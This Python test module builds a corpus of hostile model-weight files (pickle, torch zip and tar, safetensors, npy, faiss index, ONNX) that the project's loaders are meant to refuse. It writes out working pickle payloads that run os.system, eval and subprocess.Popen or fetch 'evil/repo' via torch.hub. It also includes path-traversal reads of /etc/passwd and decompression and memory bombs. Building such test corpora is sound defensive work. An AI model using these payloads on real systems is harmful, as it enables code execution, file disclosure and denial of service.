"""The corpus of hostile weight files: each is a title and the bytes. Every loader of ours has to refuse every one."""

from __future__ import annotations

import gzip
import io
import pickle
import struct
import zipfile
import zlib
from collections.abc import Iterator

import numpy as np

from tests.security import forge
from tests.security.forge import PROTOCOL, STOP, Pickle, Tensor, bundle, call, field, name, number, text

ONES = np.ones(4, np.float32)
COMMAND = text("touch /tmp/sovits-was-here")
RUN = call("os", "system", COMMAND)
HUGE = 1 << 40


def corpus() -> Iterator[tuple[str, bytes]]:
    """All hostile files."""
    yield from pickles_that_call()
    yield from pickles_that_exhaust()
    yield from tensors_out_of_bounds()
    yield from archives()
    yield from legacy_files()
    yield from safetensors_files()
    yield from arrays()
    yield from indexes()
    yield from onnx_models()
    yield from others()


def zipped(body: bytes, head: bytes = b"") -> bytes:
    """A torch zip whose pickle is exactly ``body``."""
    made = forge.plain_zip(
        {"archive/data.pkl": PROTOCOL + body + STOP, "archive/data/0": ONES.tobytes(), "archive/version": b"3"}
    )
    return head + made[len(head) :]


def pickles_that_call() -> Iterator[tuple[str, bytes]]:
    calls = {
        "os.system": RUN,
        "posix.system": call("posix", "system", COMMAND),
        "builtins.eval": call("builtins", "eval", text("__import__('os').system('id')")),
        "builtins.exec": call("__builtin__", "exec", text("import os")),
        "builtins.getattr": call("builtins", "getattr", name("os", "path"), text("system")),
        "builtins.open": call("builtins", "open", text("/tmp/sovits-was-here"), text("w")),
        "builtins.__import__": call("builtins", "__import__", text("socket")),
        "subprocess.Popen": call("subprocess", "Popen", text("id")),
        "socket.create_connection": call("socket", "create_connection", text("127.0.0.1")),
        "stack_global": text("os") + text("system") + b"\x93" + bundle(COMMAND) + b"R",
        "stack_global_nested": text("torch") + text("_utils.os.system") + b"\x93" + bundle(COMMAND) + b"R",
        "stack_global_memo": text("os") + b"q\x00" + text("system") + b"q\x010h\x00h\x01\x93" + bundle(COMMAND) + b"R",
        "global_in_dict_value": b"}(" + text("model") + RUN + b"u",
        "global_as_key": b"}(" + RUN + b"Nu",
        "inst": b"(" + COMMAND + b"ios\nsystem\n",
        "obj": b"(" + name("os", "system") + COMMAND + b"o",
        "ext1": b"\x82\x01",
        "ext4": b"\x84\x01\x00\x00\x00",
        "newobj_ex": name("subprocess", "Popen") + b")}\x92",
        "torch_load_nested": call("torch.storage", "_load_from_bytes", b"C\x01x"),
        "torch_hub": call("torch.hub", "load", text("evil/repo")),
        "torch_typename_import": call("torch._utils", "_rebuild_device_tensor_from_numpy", b"N", b"N", b"N", b"N"),
        "numpy_load": call("numpy", "load", text("/etc/passwd")),
        "numpy_runstring": call("numpy.testing._private.utils", "runstring", text("1"), b"}"),
        "pickle_loads": call("_pickle", "loads", b"C\x01."),
        "functools_partial": call("functools", "partial", name("os", "system"), COMMAND),
        "operator_attrgetter": call("operator", "attrgetter", text("system")),
        "sklearn": name("sklearn.cluster._kmeans", "MiniBatchKMeans") + b")\x81}" + text("n") + number(1) + b"sb",
        "joblib": name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}b",
        "fairseq_lookalike": call("fairseq.data.dictionary", "os.system", COMMAND),
        "codecs_other": call("_codecs", "lookup", text("x")),
        "codecs_decode": call("_codecs", "encode", text("x"), text("rot13")),
        "build_on_a_storage": Pickle().encode(Tensor(ONES)) + b"}" + text("a") + number(1) + b"sb",
        "reduce_a_storage_type": call("torch", "FloatStorage", number(1 << 40)),
        "reconstructor": call("copyreg", "_reconstructor", name("os", "system"), name("builtins", "object"), b"N"),
        "reconstructor_of_builtin": call(
            "copyreg", "_reconstructor", name("_codecs", "encode"), name("builtins", "object"), b"N"
        ),
        "defaultdict_factory": call("collections", "defaultdict", name("os", "getcwd")),
    }
    for title, body in calls.items():
        yield f"zip_{title}.pth", zipped(body)
        yield f"plain_{title}.pkl", PROTOCOL + body + STOP
    for head in ("00", "01", "02", "03", "04", "05", "06"):
        yield f"head_{head}.pth", zipped(RUN, head.encode())
    yield "protocol_0.pt", b"cos\nsystem\n(S'touch /tmp/sovits-was-here'\ntR."
    yield "protocol_0_marked.pt", b"(ios\nsystem\n."
    yield "protocol_5.pt", b"\x80\x05\x95\x20\0\0\0\0\0\0\0" + b"\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R."
    yield "out_of_band.pt", b"\x80\x05\x97."
    yield "in_the_config.pth", forge.torch_zip({"weight": {"w": Tensor(ONES)}, "config": RUN})
    yield "after_the_weights.pth", forge.torch_zip({"model": {"w": Tensor(ONES)}, "z": RUN})
    yield "real_reduce.pkl", pickle.dumps(_Reducing())


class _Reducing:
    def __reduce__(self) -> tuple[object, ...]:
        return (eval, ("print('run')",))


def pickles_that_exhaust() -> Iterator[tuple[str, bytes]]:
    bombs = {
        "many_lists": b"]" * 4_000_000,
        "many_dicts_memoized": b"}\x94" * 2_000_000,
        "deep_lists": b"]" * 200_000 + b"a" * 199_999,
        "deep_tuples": b")" + b"\x85" * 250_000,
        "long_length": b"\x8b\xff\xff\xff\x7f",
        "long_digits": b"\x8a\xff" + b"\x7f" * 255,
        "text_length": b"X\xff\xff\xff\xff",
        "text_length_64": b"\x8d" + b"\xff" * 7 + b"\x7f",
        "bytes_length": b"\x8e" + b"\xff" * 7 + b"\x7f",
        "bytearray_length": b"\x96" + b"\xff" * 7 + b"\x7f",
        "memo_index": b"Nr\xff\xff\xff\xff" + b"0" + b"j\xfe\xff\xff\xff",
        "laughs": b"]"
        + b"".join(b"q" + bytes([i]) + b"0](" + b"h" + bytes([i]) + b"h" + bytes([i]) + b"e" for i in range(60)),
        "laughing_key": b"}" + b")" + b"2\x86" * 60 + b"Ns",
        "itself": b"]q\x00h\x00a",
        "empty_stack": b"0",
        "no_mark": b"t",
        "setitem_on_list": b"]NNs",
        "append_on_dict": b"}Na",
        "future_protocol": b"\x80\x09N",
        "texts": b"".join(text("x" * 1_000_000) for _ in range(30)),
        "frame": b"\x95" + b"\xff" * 8,
        "marks": b"(" * 4_000_000,
    }
    for title, body in bombs.items():
        yield f"bomb_{title}.pth", zipped(body)
        yield f"bomb_{title}.pkl", PROTOCOL + body + STOP


def tensors_out_of_bounds() -> Iterator[tuple[str, bytes]]:
    views = {
        "shape": {"shape": (1000,), "strides": (1,)},
        "offset": {"offset": 3},
        "offset_far": {"offset": HUGE},
        "stride": {"shape": (2,), "strides": (HUGE,)},
        "negative_stride": {"shape": (2,), "strides": (-1,)},
        "negative_offset": {"offset": -1},
        "negative_size": {"shape": (-4,)},
        "overflow": {"shape": (1 << 32, 1 << 32, 4), "strides": (0, 0, 1)},
        "expanded_bomb": {"shape": (1 << 40,), "strides": (0,)},
        "count": {"count": HUGE},
        "negative_count": {"count": -4},
        "many_dimensions": {"shape": (1,) * 64, "strides": (1,) * 64},
        "uneven": {"shape": (2, 2), "strides": (1,)},
        "float_size": {"shape": (1.5,)},
        "text_size": {"shape": ("4",)},
        "bool_size": {"shape": (True,)},
        "huge_integer": {"shape": (1 << 80,)},
        "empty_but_huge": {"shape": (0, 1 << 63), "strides": (1, 1)},
    }
    for title, lies in views.items():
        yield f"tensor_{title}.pth", forge.torch_zip({"w": Tensor(ONES, **lies)})  # type: ignore[arg-type]
        if title != "empty_but_huge":
            yield f"tensor_{title}.legacy.pt", forge.torch_legacy({"w": Tensor(ONES, **lies)})  # type: ignore[arg-type]
    yield (
        "tensor_without_storage.pth",
        zipped(call("torch._utils", "_rebuild_tensor_v2", b"N", number(0), b"))", b"\x89")),
    )
    missing = (
        bundle(text("storage"), name("torch", "FloatStorage"), text("../../etc/passwd"), text("cpu"), number(4)) + b"Q"
    )
    yield "storage_key_outside.pth", zipped(missing)
    yield (
        "storage_of_a_dict.pth",
        zipped(bundle(text("storage"), name("collections", "OrderedDict"), text("0"), text("cpu"), number(4)) + b"Q"),
    )
    yield "persistent_text.pth", zipped(b"Pevil\n")


def archives() -> Iterator[tuple[str, bytes]]:
    good = PROTOCOL + b"}" + STOP
    bad = PROTOCOL + RUN + STOP
    two = [(b"archive/data.pkl", good, {}), (b"archive/data.pkl", bad, {})]
    yield "two_pickles_one_name.pth", forge.raw_zip(two)
    yield "two_pickles.pth", forge.plain_zip({"a/data.pkl": good, "b/data.pkl": bad})
    yield "climbing_name.pth", forge.plain_zip({"../data.pkl": good})
    yield "absolute_name.pth", forge.plain_zip({"/archive/data.pkl": good})
    yield "drive_name.pth", forge.raw_zip([(b"C:/data.pkl", good, {})])
    yield "backslash_name.pth", forge.raw_zip([(b"a\\..\\data.pkl", good, {})])
    yield "nul_name.pth", forge.raw_zip([(b"archive/data.pkl\0.txt", good, {})])
    yield "no_utf8_name.pth", forge.raw_zip([(b"archive/\xff\xfe", good, {})])
    overlapping = [(b"archive/data.pkl", good, {}), (b"archive/data.pk2", good, {"offset": 0})]
    yield "overlapping_members.pth", forge.raw_zip(overlapping)
    yield (
        "member_beyond.pth",
        forge.raw_zip([(b"archive/data.pkl", good, {"size": HUGE % (1 << 31), "packed": HUGE % (1 << 31)})]),
    )
    yield "member_size_lie.pth", forge.raw_zip([(b"archive/data.pkl", good, {"packed": 1 << 30, "size": 1 << 30})])
    yield "encrypted.pth", forge.raw_zip([(b"archive/data.pkl", good, {"flags": 1})])
    yield "method_99.pth", forge.raw_zip([(b"archive/data.pkl", good, {"method": 99})])
    yield "offset_far.pth", forge.raw_zip([(b"archive/data.pkl", good, {"offset": 0xFFFFFFF0})])
    yield "shifted_directory.pth", b"PK\x03\x04junk" + forge.raw_zip([(b"archive/data.pkl", good, {})])
    yield "hidden_zip_behind.pth", zipped(b"}") + zipped(RUN)
    yield (
        "deflate_bomb.pth",
        forge.plain_zip({"a/data.pkl": PROTOCOL + b"0" * (600 << 10), "a/x": bytes(48 << 20)}, zipfile.ZIP_DEFLATED),
    )
    packed = zlib.compress(bytes(64 << 20), 9)[2:-4]
    yield "deflate_lie.pth", forge.raw_zip([(b"a/data.pkl", packed, {"method": 8, "size": 100, "packed": len(packed)})])
    yield (
        "deflate_more.pth",
        forge.raw_zip([(b"a/data.pkl", packed, {"method": 8, "size": 0x7FFFFFFF, "packed": len(packed)})]),
    )
    yield "many_members.pth", forge.raw_zip([(f"a/{i}".encode(), b"", {}) for i in range(30_000)])
    yield "no_directory.pth", zipped(b"}")[:-30]
    yield "directory_count_lie.pth", zipped(b"}")[:-14] + b"\xff\xfe\xff\xfe" + zipped(b"}")[-10:]
    yield "torchscript.pt", forge.plain_zip({"m/data.pkl": good, "m/code/x.py": b"import os", "m/constants.pkl": good})
    yield "just_a_zip.zip", forge.plain_zip({"readme.txt": b"hello"})
    yield "empty_zip.pth", b"PK\x05\x06" + bytes(18)
    yield "zip64_lie.pth", forge.raw_zip([(b"a/data.pkl", good, {"size": 0xFFFFFFFF, "packed": 0xFFFFFFFF})])


def legacy_files() -> Iterator[tuple[str, bytes]]:
    good = forge.torch_legacy({"w": Tensor(ONES)})
    yield "legacy_call.pt", forge.torch_legacy({"w": RUN})
    yield "legacy_module.pt", forge.torch_legacy({"w": bundle(text("module"), name("os", "system"), b"N", b"N") + b"Q"})
    yield "legacy_cut.pt", good[:-7]
    yield "legacy_storage_length.pt", good[:-24] + struct.pack("<q", HUGE) + good[-16:]
    yield "legacy_storage_negative.pt", good[:-24] + struct.pack("<q", -4) + good[-16:]
    yield "legacy_wrong_version.pt", good.replace(number(1001), number(1002), 1)
    yield "tar_call.tar", forge.torch_tar({"w": ONES}, main=RUN)
    members = {"storages": PROTOCOL + RUN + STOP, "tensors": PROTOCOL + number(0) + STOP, "pickle": PROTOCOL + b"}."}
    yield "tar_call_in_storages.tar", forge.tar(members)
    yield "tar_many_tensors.tar", forge.tar({**members, "storages": PROTOCOL + number(1 << 30) + STOP})
    yield "tar_link.tar", forge.tar(members, kind=b"2")
    yield "tar_climbing.tar", forge.tar({"../storages": b"x", "tensors": b"x", "pickle": b"x"})
    yield "tar_of_files.tar", forge.tar({"readme.txt": b"hello"})
    tar = forge.torch_tar({"w": ONES})
    yield "tar_cut.tar", tar[:1400]
    shaped = tar.replace(struct.pack("<i4xqqq", 1, 4, 1, 0), struct.pack("<i4xqqq", 1, HUGE, 1, 0))
    yield "tar_shape.tar", shaped
    yield (
        "tar_dimensions.tar",
        tar.replace(struct.pack("<i4xqqq", 1, 4, 1, 0), struct.pack("<i4xqqq", 1 << 30, 4, 1, 0)),
    )


def safetensors_files() -> Iterator[tuple[str, bytes]]:
    raw = ONES.tobytes()
    row = {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}
    yield "giant_header.safetensors", forge.safetensors(b"{}", length=(1 << 47))
    yield "giant_real_header.safetensors", forge.safetensors(b"{" + b" " * (9 << 20) + b"}")
    yield "header_beyond_limit.safetensors", forge.safetensors({f"t{i}": row for i in range(60_000)}, raw)
    yield "header_beyond_file.safetensors", forge.safetensors(b"{}", length=1000)
    yield "deep_header.safetensors", forge.safetensors(b'{"a":' + b"[" * 500_000 + b"]" * 500_000 + b"}")
    yield "many_empty_lists.safetensors", forge.safetensors(b'{"a":[' + b"[]," * 600_000 + b"[]]}")
    yield "many_empty_objects.safetensors", forge.safetensors(b'{"a":[' + b"{}," * 600_000 + b"{}]}")
    yield "long_integer.safetensors", forge.safetensors(b'{"a":' + b"9" * 1_000_000 + b"}")
    yield (
        "duplicate_name.safetensors",
        forge.safetensors(b'{"a":%s,"a":%s}' % ((b'{"dtype":"F32","shape":[4],"data_offsets":[0,16]}',) * 2), raw),
    )
    rows = {
        "overlap": {"a": row, "b": row},
        "gap": {"a": {**row, "data_offsets": [16, 32]}},
        "outside": {"a": {**row, "data_offsets": [0, 1 << 40]}},
        "negative": {"a": {**row, "data_offsets": [-16, 0]}},
        "backwards": {"a": {**row, "data_offsets": [16, 0]}},
        "shape_lie": {"a": {**row, "shape": [1 << 40]}},
        "shape_overflow": {"a": {**row, "shape": [1 << 62, 1 << 62]}},
        "negative_shape": {"a": {**row, "shape": [-1, -4]}},
        "float_shape": {"a": {**row, "shape": [4.0]}},
        "unknown_type": {"a": {**row, "dtype": "F8_E4M3"}},
        "type_list": {"a": {**row, "dtype": ["F32"]}},
        "more_keys": {"a": {**row, "code": "import os"}},
        "no_row": {"a": 1},
        "metadata": {"__metadata__": {"a": {"b": 1}}, "a": row},
    }
    for title, header in rows.items():
        yield f"{title}.safetensors", forge.safetensors(header, raw)
    yield "bytes_left_over.safetensors", forge.safetensors({"a": row}, raw + b"x")
    yield "no_json.safetensors", forge.safetensors(b"{nonsense}")
    yield "nan.safetensors", forge.safetensors(b'{"a":NaN}')
    yield "no_utf8.safetensors", forge.safetensors(b'{"\xff":1}')


def arrays() -> Iterator[tuple[str, bytes]]:
    for version in (1, 2, 3):
        out = io.BytesIO()
        np.lib.format.write_array(out, np.array([_Reducing()], object), version=(version, 0))
        yield f"objects_{version}.npy", out.getvalue()
    out = io.BytesIO()
    np.savez(out, a=np.ones(2), b=np.array([_Reducing()], object))
    yield "objects.npz", out.getvalue()
    out = io.BytesIO()
    np.savez_compressed(out, b=np.array([{"a": 1}], object))
    yield "objects_compressed.npz", out.getvalue()
    out = io.BytesIO()
    np.save(out, np.zeros(2, [("a", "f4"), ("b", "O")]))
    yield "records.npy", out.getvalue()
    plain = "{'descr': '<f4', 'fortran_order': False, 'shape': (%s), }"
    yield "shape_lie.npy", forge.npy(plain % f"{HUGE},", ONES.tobytes())
    yield "shape_overflow.npy", forge.npy(plain % "4294967296, 4294967296, 4", ONES.tobytes())
    yield "shape_code.npy", forge.npy(plain % "__import__('os').system('id'),", ONES.tobytes())
    yield "shape_digits.npy", forge.npy(plain % ("9" * 5000 + ","), ONES.tobytes())
    yield "descr_code.npy", forge.npy("{'descr': (lambda: 1)(), 'fortran_order': False, 'shape': (), }")
    yield (
        "descr_subarray.npy",
        forge.npy("{'descr': '(2,3)f4', 'fortran_order': False, 'shape': (4,), }", ONES.tobytes()),
    )
    yield "descr_void.npy", forge.npy("{'descr': '|V8', 'fortran_order': False, 'shape': (2,), }", ONES.tobytes())
    yield "descr_text.npy", forge.npy("{'descr': '<U4', 'fortran_order': False, 'shape': (1,), }", ONES.tobytes())
    yield "big_endian.npy", forge.npy("{'descr': '>f4', 'fortran_order': False, 'shape': (4,), }", ONES.tobytes())
    yield "deep_header.npy", forge.npy("(" * 9000)
    yield "giant_header.npy", forge.npy("x", version=2, length=1 << 31)
    yield "pickle_after_magic.npy", b"\x93NUMPY\x01\x00" + pickle.dumps(_Reducing())
    yield "member_is_a_pickle.npz", forge.plain_zip({"a.npy": pickle.dumps(_Reducing())})
    zeros = forge.npy(plain % f"{12 << 20},", bytes(48 << 20))
    yield "bomb.npz", forge.plain_zip({"a.npy": zeros}, zipfile.ZIP_DEFLATED)
    yield "bomb_in_parts.npz", forge.plain_zip({f"{i}.npy": zeros[: 20 << 20] for i in range(3)}, zipfile.ZIP_DEFLATED)


def indexes() -> Iterator[tuple[str, bytes]]:
    vectors = np.ones((4, 3), np.float32)
    centres = np.ones((2, 3), np.float32)
    lists = [(np.array([0, 1]), vectors[:2]), (np.array([2, 3]), vectors[2:])]
    broken = {
        "count": forge.flat_index(vectors, count=HUGE),
        "negative": forge.flat_index(vectors, count=-1),
        "width": forge.flat_index(vectors, width=1 << 30),
        "cut": forge.flat_index(vectors)[:-5],
        "more": forge.flat_index(vectors) + b"x",
        "on_disk": forge.inverted_index(centres, lists, code=b"ilod"),
        "list_sizes": forge.inverted_index(centres, lists, sizes=[1 << 61, 4 - (1 << 61) + (1 << 62)]),
        "list_size_wrap": forge.inverted_index(centres, lists, sizes=[(1 << 64) - 1, 5]),
        "list_count": forge.inverted_index(centres, lists, sizes=[4]),
        "ids_outside": forge.inverted_index(centres, [(np.array([0, HUGE]), vectors[:2]), lists[1]]),
        "ids_negative": forge.inverted_index(centres, [(np.array([0, -1]), vectors[:2]), lists[1]]),
        "ids_twice": forge.inverted_index(centres, [(np.array([0, 0]), vectors[:2]), lists[1]]),
        "inverted_cut": forge.inverted_index(centres, lists)[:-3],
        "other_kind": b"IxPQ" + bytes(200),
        "pre_transform": b"IxPT" + bytes(200),
        "code_only": b"IwFl",
    }
    for title, data in broken.items():
        yield f"{title}.index", data
        yield f"{title}.retrieval.pkl", forge.retrieval_pickle({0: data})
    good = forge.flat_index(vectors)
    yield "index_other_class.pkl", forge.retrieval_pickle({0: good}, "os", "system")
    yield "index_swig_lookalike.pkl", forge.retrieval_pickle({0: good}, "faiss.swigfaiss", "read_index")
    yield "index_loader.pkl", forge.retrieval_pickle({0: good}, "faiss.contrib.ondisk", "merge_ondisk")
    yield "index_without_bytes.pkl", forge.retrieval_pickle({0: b""})
    yield "index_and_call.pkl", PROTOCOL + b"}(" + number(0) + RUN + b"u" + STOP
    yield "sparse_lists.index", forge.inverted_index(centres, lists).replace(b"full", b"sprs")


def onnx_models() -> Iterator[tuple[str, bytes]]:
    def outside(location: str) -> bytes:
        entry = field(13, field(1, "location") + field(2, location))
        return field(1, 2) + field(2, 1) + field(8, "w") + entry + field(14, 1)

    good = forge.onnx_tensor("w", np.array([1, 2], np.float32))
    for index, location in enumerate(("/etc/passwd", "../../../etc/passwd", "other.bin", "file:///etc/passwd")):
        yield f"external_{index}.onnx", forge.onnx_model(outside(location))
    nested = field(1, field(4, "If") + field(5, field(1, "then_branch") + field(6, field(5, outside("/etc/passwd")))))
    yield "external_in_branch.onnx", forge.onnx_model(good, extra_graph=nested)
    constant = field(1, field(4, "Constant") + field(5, field(1, "value") + field(5, outside("/etc/passwd"))))
    yield "external_in_constant.onnx", forge.onnx_model(good, extra_graph=constant)
    yield "external_in_sparse.onnx", forge.onnx_model(good, extra_graph=field(15, field(1, outside("/etc/passwd"))))
    yield (
        "external_in_function.onnx",
        forge.onnx_model(good) + field(25, field(7, field(5, field(5, outside("/etc/passwd"))))),
    )
    yield "tensor_lie.onnx", forge.onnx_model(forge.onnx_tensor("w", ONES, shape=(1 << 40,)))
    yield "tensor_overflow.onnx", forge.onnx_model(forge.onnx_tensor("w", ONES, shape=(1 << 62, 1 << 62)))
    yield "dimensions.onnx", forge.onnx_model(forge.onnx_tensor("w", ONES, field(1, b"\x01" * 100_000)))
    deep = b""
    for _ in range(3000):
        deep = field(1, field(5, field(6, deep)))
    yield "deep_graphs.onnx", forge.onnx_model(good, extra_graph=deep)
    yield "many_fields.onnx", forge.onnx_model(good) + field(3, "x") * 2_000_000
    yield "length_lie.onnx", forge.onnx_model(good)[:20] + b"\x3a\xff\xff\xff\xff\x7f"
    yield "endless_integer.onnx", forge.onnx_model(good) + b"\x08" + b"\xff" * 100
    yield "field_zero.onnx", forge.onnx_model(good) + b"\x00\x00"
    yield "group.onnx", forge.onnx_model(good) + b"\x0b\x0c"
    yield "no_outputs.onnx", b"\x08\x08\x12\x01x"


def others() -> Iterator[tuple[str, bytes]]:
    yield "joblib_gzip.pkl", gzip.compress(PROTOCOL + RUN + STOP)
    yield "joblib_zlib.joblib", zlib.compress(PROTOCOL + RUN + STOP)
    yield "empty.pth", b""
    yield "one_byte.pth", b"\x80"
    yield "text.pth", b"import os; os.system('id')\n"
    yield "page.pth", b"<html><body>404</body></html>"
    yield "random.pth", np.random.default_rng(0).bytes(5000)
    yield "zeros.pth", bytes(5000)
    yield "hdf5.h5", b"\x89HDF\r\n\x1a\n" + bytes(200)
    yield "script.py", b"#!/usr/bin/env python\nimport os\n"
    yield "trailing_pickle.pkl", PROTOCOL + b"}" + STOP + PROTOCOL + RUN + STOP
    yield "not_a_tree.pkl", PROTOCOL + number(7) + STOP


def onnx_for_the_native_parser() -> Iterator[tuple[str, bytes]]:
    """Models that pass the walk and are left to onnxruntime; ``read`` may describe them, ``inspect`` has to refuse."""
    good = forge.onnx_tensor("w", np.array([1, 2], np.float32))
    yield "unknown_operator.onnx", forge.onnx_model(good, operator="Touch")
    yield "future_opset.onnx", forge.onnx_model(good, opset=9999)
    yield "missing_input.onnx", forge.onnx_model()
